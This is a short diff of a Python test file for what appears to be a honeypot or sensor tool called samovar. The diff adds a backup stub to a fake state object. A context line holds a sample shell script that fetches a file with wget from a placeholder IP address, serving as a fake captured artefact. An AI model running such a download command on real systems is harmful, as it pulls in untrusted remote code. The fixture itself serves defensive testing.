@@ -25,7 +25,7 @@ from samovar.store.interface import (
     Terms,
     Unit,
 )
-from samovar.web.state import Counters, Disk, Geo, Health, Port, Process, SensorCount, Worker
+from samovar.web.state import Backup, Counters, Disk, Geo, Health, Port, Process, SensorCount, Worker
 
 SAMPLE = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
 SHA256 = hashlib.sha256(SAMPLE).hexdigest()
@@ -248,6 +248,9 @@ class FakeState:
 
     def artefact(self, sha256: str) -> Path | None:
         return self._file if sha256 == SHA256 else None
+
+    def backup(self) -> Backup:
+        return Backup("backup")
 
 
 def _value(event: Event, field: str) -> object:
